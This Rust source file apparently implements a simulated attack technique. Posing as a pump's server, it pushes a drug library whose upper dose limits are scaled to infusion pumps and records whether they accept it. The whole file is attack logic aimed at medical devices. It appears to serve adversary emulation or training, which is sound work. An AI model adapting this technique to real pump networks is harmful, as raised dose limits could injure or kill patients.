//! Offers an altered drug library to the pumps that took the attacker for their server.

use super::craft::greeting::{opened, wrap};
use super::{Progress, Technique};
use crate::catalog::Entry;
use crate::net::port::{Input, SocketEvent};
use crate::parameters::{Drug, Factor, Parameters};
use crate::rng::Purpose;
use crate::wire::pump::PumpMessage;

/// Technique `offer-library`.
#[derive(Debug)]
pub(super) struct OfferLibrary;

/// What a step gives to it.
#[derive(Clone, Debug, Parameters)]
pub(super) struct Params {
    /// Drug whose upper limits are scaled.
    drug: Drug,
    /// Factor on the upper limits.
    factor: Factor,
    /// Version claimed.
    #[param(default = 100, range = 1..=1000000)]
    version: u32,
}

/// What an attempt remembers.
#[derive(Clone, Debug, Default)]
pub(super) struct State {
    /// Messages that came in on streams.
    heard: u32,
}

type Step<'s, 'a, 'c> = super::Step<'s, 'a, 'c, OfferLibrary>;

static ENTRY: Entry = Entry {
    id: "offer-library",
    title: "Offer an altered drug library as a server",
    summary: "Offers a library with scaled limits on every session that a pump opened to the impersonated server.",
    parameters: Params::PARAMETERS,
    relations: Params::RELATIONS,
    references: &["T1565.002", "T0843", "T0836"],
};

const LUCK: Purpose = Purpose::new("spoofed server offer");

impl Technique for OfferLibrary {
    type Params = Params;
    type State = State;
    const ENTRY: &'static Entry = &ENTRY;
    const STAGES: &'static [&'static str] = &["offer", "offered", "accepted"];

    fn act(step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        match input {
            Input::Begin => {
                let (drug, factor) = (&step.params.drug, step.params.factor);
                let Some(offer) = step.altered(drug, factor, step.params.version) else {
                    return Progress::Failed("knows no library to alter");
                };
                let mut offered = false;
                for captured in step.knowledge.captured.iter().filter(|c| c.greeted) {
                    step.hands.send(
                        captured.stream,
                        wrap(captured, PumpMessage::LibraryOffer(offer.clone())),
                    );
                    offered = true;
                }
                if offered {
                    Progress::Reached(1)
                } else {
                    Progress::Failed("no pump came")
                }
            }
            Input::Socket(SocketEvent::Message { stream, message }) => {
                step.state.heard += 1;
                let mut luck = step.hands.luck(LUCK, u64::from(step.state.heard));
                match opened(step.hands, step.knowledge, &mut luck, *stream, message).0 {
                    Some(PumpMessage::LibraryAnswer { accepted: true, .. }) => {
                        Progress::Done("library accepted")
                    }
                    Some(PumpMessage::LibraryAnswer {
                        accepted: false, ..
                    }) => Progress::Failed("library refused"),
                    _ => Progress::Wait,
                }
            }
            _ => Progress::Wait,
        }
    }
}
